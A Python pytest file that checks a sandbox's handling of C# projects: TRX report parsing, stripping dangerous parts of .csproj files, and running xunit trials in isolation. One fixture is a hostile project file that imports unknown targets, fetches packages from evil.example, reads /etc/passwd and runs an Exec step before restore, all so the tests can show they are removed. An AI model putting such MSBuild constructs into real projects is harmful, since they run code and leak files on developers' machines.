"""C#: trx reports read as hostile, project files without what MSBuild would run, and whole trials where dotnet is."""

import shutil
import subprocess
from pathlib import Path

import pytest

from prompts.task import Limits
from sandbox.environments.dotnet import UnreadableProjectError, dotnet_problem, restorable
from sandbox.isolation.protocol import Finished
from sandbox.report import TestReport
from sandbox.toolchains.csharp import CSharp
from sandbox.toolchains.protocol import TestCommand
from sandbox.toolchains.trx import report_from_trx
from sandbox.trial import Laboratory, Project
from tests.isolations import working_bubblewrap

CASES = Path(__file__).parent / "cases/trx"
TRX = '<TestRun xmlns="http://microsoft.com/schemas/VisualStudio/TeamTest/2010">%s</TestRun>'
PASSED = '<Results><UnitTestResult testName="a" outcome="Passed" duration="x"/></Results>'
END = '<ResultSummary outcome="Completed"><Counters total="1" failed="0"/></ResultSummary>'


def read(tmp_path: Path, *texts: str, code: int = 0) -> TestReport:
    for number, text in enumerate(texts):
        (tmp_path / f"{number}.trx").write_text(text, encoding="utf-8")
    return report_from_trx(tmp_path, Finished(code, "", 1.0))


def test_a_report_of_xunits(tmp_path: Path) -> None:
    shutil.copy(CASES / "xunit.trx", tmp_path)
    report = report_from_trx(tmp_path, Finished(1, "", 1.0))
    assert [(case.id.removeprefix("Shop.Tests.OrderTests."), case.outcome) for case in report.cases] == [
        ("Adds_line", "passed"),
        ("Rejects(quantity: -1)", "failed"),
        ("Later", "skipped"),
    ]
    assert "Expected: 400" in report.cases[1].message
    assert "OrderTests.cs:line 21" in report.cases[1].message
    assert report.cases[1].seconds == 1.5
    assert report.problem == ""
    assert "disagree" in report_from_trx(tmp_path, Finished(0, "", 1.0)).problem


def test_a_run_that_was_broken_off(tmp_path: Path) -> None:
    shutil.copy(CASES / "broken-off.trx", tmp_path)
    assert "Test host process crashed" in report_from_trx(tmp_path, Finished(1, "", 1.0)).problem


def test_several_projects_give_one_report(tmp_path: Path) -> None:
    report = read(tmp_path, TRX % (PASSED + END), TRX % (PASSED + END))
    assert report.passed, report
    assert [case.id for case in report.cases] == ["a", "a#2"]


@pytest.mark.parametrize(
    ("text", "problem"),
    [
        ("", "not readable XML"),
        ('<!DOCTYPE x [<!ENTITY a "b">]>' + TRX % "", "not readable XML"),
        ("<testsuites/>", "no trx file"),
        (TRX % PASSED, "its summary is missing"),
        (TRX % END, "no tests were found"),
        (TRX % (PASSED + END.replace('failed="0"', 'failed="2"')), "counts 2 failures"),
        (TRX % (PASSED + END.replace("Completed", "Aborted")), "broken off"),
    ],
)
def test_what_is_no_whole_report_passes_nothing(tmp_path: Path, text: str, problem: str) -> None:
    report = read(tmp_path, text)
    assert problem in report.problem
    assert not report.passed


def test_without_a_report_nothing_passes(tmp_path: Path) -> None:
    assert "wrote no report" in report_from_trx(tmp_path / "absent", Finished(0, "", 1.0)).problem
    assert "exit code 134" in read(tmp_path, TRX % (PASSED + END), code=134).problem


PROJECT = """<Project Sdk="Microsoft.NET.Sdk">
  <Import Project="evil.targets" />
  <PropertyGroup>
    <TargetFramework>net8.0</TargetFramework>
    <RestoreSources>https://evil.example</RestoreSources>
    <Evil>$([System.IO.File]::ReadAllText('/etc/passwd'))</Evil>
  </PropertyGroup>
  <ItemGroup>
    <PackageReference Include="xunit" Version="2.9.2" Condition="$(Evil)" />
    <PackageReference Include="Serilog"><Version>4.0.0</Version><PrivateAssets>all</PrivateAssets></PackageReference>
    <PackageReference Include="$(Evil)" Version="1" />
    <ProjectReference Include="../src/Shop.csproj" />
    <Compile Remove="x.cs" />
  </ItemGroup>
  <Target Name="Evil" BeforeTargets="Restore"><Exec Command="evil" /></Target>
</Project>"""


def test_nothing_of_a_project_file_runs_or_leads_elsewhere_with_network() -> None:
    text = restorable("a.csproj", PROJECT)
    assert "vil" not in text
    assert '<PackageReference Include="xunit" Version="2.9.2" />' in text
    assert '<PackageReference Include="Serilog" Version="4.0.0" />' in text
    assert '<ProjectReference Include="../src/Shop.csproj" />' in text
    assert "<TargetFramework>net8.0</TargetFramework>" in text


@pytest.mark.parametrize(
    "text", ["<Project", '<Project Sdk="Evil.Sdk/1.0"/>', "<Project/>", "<p>" * 100_000, "x" * 2_000_000]
)
def test_project_files_that_are_not_restored_say_so(text: str) -> None:
    with pytest.raises(UnreadableProjectError, match=r"a\.csproj"):
        restorable("a.csproj", text)


def test_each_test_project_is_built_and_its_assembly_run() -> None:
    test = '<Project Sdk="Microsoft.NET.Sdk"><PackageReference Include="Microsoft.NET.Test.Sdk"/>%s</Project>'
    files = {
        "src/Shop.csproj": '<Project Sdk="Microsoft.NET.Sdk"/>',
        "tests/It's.csproj": test % "",
        "b/B.csproj": test % "<AssemblyName>Other.Name</AssemblyName>",
    }
    plan = CSharp().command(files, "/work", "/results")
    assert isinstance(plan, TestCommand)
    assert subprocess.run([*plan.argv[:1], "-n", *plan.argv[1:]], check=False).returncode == 0
    script = plan.argv[2]
    assert "/tmp/tests/0/Other.Name.dll" in script
    assert "'/tmp/tests/1/It'\"'\"'s.dll'" in script
    assert "Shop.csproj" not in script
    assert "no tests to run" in str(CSharp().command({"a.csproj": "<Project/>"}, "/work", "/results"))


def major() -> str:
    said = subprocess.run(["dotnet", "--version"], capture_output=True, text=True, check=True)
    return said.stdout.split(".")[0]


@pytest.mark.network
@pytest.mark.slow
@pytest.mark.skipif(bool(dotnet_problem()), reason=dotnet_problem() or "dotnet is there")
@pytest.mark.parametrize(("sum_", "outcome"), [(3, "passed"), (4, "failed")])
async def test_a_trial_with_xunit(sum_: int, outcome: str) -> None:
    isolation = working_bubblewrap()
    packages = {"Microsoft.NET.Test.Sdk": "17.11.1", "xunit": "2.9.2", "xunit.runner.visualstudio": "2.8.2"}
    references = "".join(f'<PackageReference Include="{n}" Version="{v}"/>' for n, v in packages.items())
    project = (
        f'<Project Sdk="Microsoft.NET.Sdk"><PropertyGroup><TargetFramework>net{major()}.0</TargetFramework>'
        f"</PropertyGroup><ItemGroup>{references}</ItemGroup></Project>"
    )
    code = "public class CalcTests { [Xunit.Fact] public void Adds() { Xunit.Assert.Equal(%d, 1 + 2); } }"
    files = {"Calc.csproj": project, "CalcTests.cs": code % sum_}
    async with Laboratory(isolation) as laboratory:
        trial = await laboratory.run(Project(files, limits=Limits(seconds=180, memory_mb=4096)))
    if trial.report.ours:
        pytest.skip(trial.report.problem)
    assert {case.id: case.outcome for case in trial.report.cases} == {"CalcTests.Adds": outcome}, trial.report
